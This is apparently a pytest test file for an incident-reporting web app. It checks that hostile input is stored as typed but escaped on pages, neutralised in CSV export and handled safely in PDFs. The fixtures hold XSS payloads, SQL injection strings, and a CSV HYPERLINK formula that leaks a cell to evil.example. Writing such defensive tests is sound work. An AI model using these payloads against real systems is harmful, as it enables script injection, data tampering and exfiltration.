"""Hostile text in what reporters type (issue 6, bad input in every channel): HTML and script, SQL,
emoji, right-to-left text and control characters are stored as typed (or refused with a 422, never
a 5xx) and neutralised wherever they are shown: escaped on every page (records list, the record,
its print view, check your answers, the question page, the dashboard), kept as text in the CSV with
formulas neutralised, and printed in the summary PDF without breaking it.

Complements test_web_form.py (the description on the summary and print pages), test_web_dashboard.py
(the dashboard table and CSV), test_summary_pdf.py (every kind of character in the PDF, rendered
directly) and test_api_fuzz.py (no 5xx for any input the schema allows)."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from tests.backend.reporting import API, answer, new_draft, sample_answer
from tests.backend.web_client import sign_in

SCRIPT = "<script>alert(1)</script>"
IMG = '<img src=x onerror="alert(2)">'
SQL = "'); DROP TABLE records;--"
WORLD = "😀👩‍⚕️ مرحبا بالعالم שלום עולם"
HOSTILE = f'{SCRIPT} {IMG} {SQL} "quoted" & <b>bold</b> {WORLD}'
ESCAPED = ["&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=", "&lt;b&gt;bold&lt;/b&gt;"]
RAW = [SCRIPT, "<img src=x", "<b>bold</b>"]


def _strings(client, h, rid: str, skip_optional: bool = False) -> list[str]:
    """Answers every question; every free-text one with hostile text naming its field. Returns those fields."""
    typed = []
    for _ in range(80):
        q = client.get(f"{API}/records/{rid}/next-question", headers=h).json()["question"]
        if q is None:
            return typed
        item = {"field": q["field"], "patient": q["patient"]}
        if q["type"] == "string" and not q["choices"] and not q["search"] and not q["multiple"]:
            item["value"] = f"{q['field']}: {HOSTILE}"
            typed.append(q["field"])
        elif skip_optional and not q["mandatory"]:
            item["skip"] = True
        else:
            item["value"] = sample_answer(q)
        r = answer(client, h, rid, item)
        assert r.status_code == 200, r.text
    raise AssertionError("the plan kept asking questions")


def _safe(html: str) -> None:
    for raw in RAW:
        assert raw not in html, raw
    assert "onerror=\"alert" not in html


def _shows_escaped(html: str) -> None:
    _safe(html)
    for escaped in ESCAPED:
        assert escaped in html, escaped
    assert "DROP TABLE records;--" in html and "مرحبا بالعالم" in html and "שלום עולם" in html and "😀" in html


@pytest.fixture
def hostile_record(client, people):
    """A draft of std_a's whose description and every other free-text answer is hostile."""
    h = people.headers("std_a")
    rid = new_draft(client, h, "incident", answers=[{"field": "Description", "value": HOSTILE}])["record"]["id"]
    fields = _strings(client, h, rid)
    return rid, h, fields


def test_hostile_text_is_stored_as_typed(client, hostile_record):
    rid, h, fields = hostile_record
    assert len(fields) >= 1  # besides the description: the plan has other free-text questions
    record = client.get(f"{API}/records/{rid}", headers=h).json()
    stored = json.dumps(record, ensure_ascii=False)
    assert HOSTILE.replace('"', '\\"') in stored  # verbatim: escaping is the renderer's job, not the store's
    summary = client.get(f"{API}/records/{rid}/summary", headers=h).json()
    assert HOSTILE.replace('"', '\\"') in json.dumps(summary, ensure_ascii=False)


def test_every_page_that_shows_it_escapes_it(client, people, hostile_record):
    rid, h, _ = hostile_record
    sign_in(client, "std_a")
    check = client.get(f"/records/{rid}/check")
    assert check.status_code == 200
    _shows_escaped(check.text)
    question = client.get(f"/records/{rid}/questions/Description")
    assert question.status_code == 200
    _shows_escaped(question.text)  # the answer given, in the text area
    assert client.post(f"{API}/records/{rid}/submit", headers=h).status_code == 200
    for path in ("/records", f"/records/{rid}", f"/records/{rid}/print", "/dashboard"):
        page = client.get(path)
        assert page.status_code == 200, path
        _safe(page.text)
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page.text, path  # it is shown, as text
    sign_in(client, "org_a")  # a colleague reviewing the organisation's records
    page = client.get("/dashboard")
    _safe(page.text)
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x" in page.text  # the table shows the start
    data = re.search(r'<script type="application/json" id="dashboard-data">(.*?)</script>', page.text, re.S)
    assert data is None or "<" not in data.group(1)  # nothing typed can close the data's script element


def test_the_csv_keeps_it_as_text_and_neutralises_formulas(client, people):
    h = people.headers("std_a")
    formula = f"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"{WORLD}\")"
    for text in (HOSTILE, formula, f"\t=1+1 {SQL}"):
        new_draft(client, h, "incident", answers=[{"field": "Description", "value": text}])
    r = client.get(f"{API}/dashboard/export.csv", headers=h)
    assert r.status_code == 200 and r.text.startswith("\ufeff")
    cells = {row["Description"] for row in csv.DictReader(io.StringIO(r.text[1:]))}
    assert HOSTILE in cells  # a CSV is not HTML: kept as typed, quoted by the csv module
    assert "'" + formula in cells and formula not in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_summary_pdf_prints_it(client, people):
    h = people.headers("std_a")
    text = f"{HOSTILE} \x01\x07\x1b[31m\x7f\u202eevil\u202c \ufeff\u200b end."
    r = new_draft(client, h, "incident", answers=[{"field": "Description", "value": text}])
    rid = r["record"]["id"]
    pdf = client.get(f"{API}/records/{rid}/summary.pdf", headers=h)
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF")
    sign_in(client, "std_a")
    page = client.get(f"/records/{rid}/summary.pdf")
    assert page.status_code == 200 and page.content.startswith(b"%PDF")


@pytest.mark.parametrize("value", [
    "NUL \x00 in the middle", "escape \x1b[2J and bell \x07", "override \u202eevil\u202c",
    "x" * 10_000, " ", "\x00",
])
def test_control_characters_in_answers_are_a_422_or_stored_safely_never_a_5xx(client, people, value):
    h = people.headers("std_a")
    created = client.post(f"{API}/records", json={"event_type": "incident", "channel": "api",
                                                   "answers": [{"field": "Description", "value": value}]}, headers=h)
    assert created.status_code in (201, 422), created.text
    rid = new_draft(client, h, "incident")["record"]["id"]
    r = answer(client, h, rid, {"field": "Description", "value": value})
    assert r.status_code in (200, 422), r.text
    if r.status_code == 200:
        record = client.get(f"{API}/records/{rid}", headers=h)
        assert record.status_code == 200
        stored = json.dumps(record.json())
        assert "\\u0000" not in stored  # NUL is never stored (PostgreSQL text cannot hold it)
        sign_in(client, "std_a")
        for path in (f"/records/{rid}", f"/records/{rid}/check", f"/records/{rid}/summary.pdf"):
            assert client.get(path).status_code == 200, path
    analysed = client.post(f"{API}/narrative/analyse", json={"text": value, "audience": "staff"}, headers=h)
    assert analysed.status_code in (200, 422), analysed.text


def test_a_lone_surrogate_in_json_is_a_422_or_stored_safely_never_a_5xx(client, people):
    h = {**people.headers("std_a"), "Content-Type": "application/json"}
    rid = new_draft(client, h, "incident")["record"]["id"]
    body = b'{"answers": [{"field": "Description", "value": "half \\ud800 a pair"}]}'
    r = client.post(f"{API}/records/{rid}/answers", content=body, headers=h)
    assert r.status_code in (200, 422), r.text
    assert client.get(f"{API}/records/{rid}", headers=h).status_code == 200


@pytest.mark.parametrize("query", ["q=' OR 1=1--", f"q={SQL}", "q=%00", "q=😀"])
def test_sql_and_odd_characters_in_searches_are_just_text(client, people, query):
    h = people.headers("std_a")
    r = client.get(f"{API}/taxonomy/code-systems/ods?{query}", headers=h)
    assert r.status_code in (200, 404, 422), r.text
    r = client.get(f"{API}/records?status={query[2:]}", headers=h)
    assert r.status_code in (200, 422), r.text
    sign_in(client, "org_a")
    page = client.get(f"/dashboard?event_type={query[2:]}")
    assert page.status_code in (200, 400, 422)  # the page names a filter it does not know
    _safe(page.text)
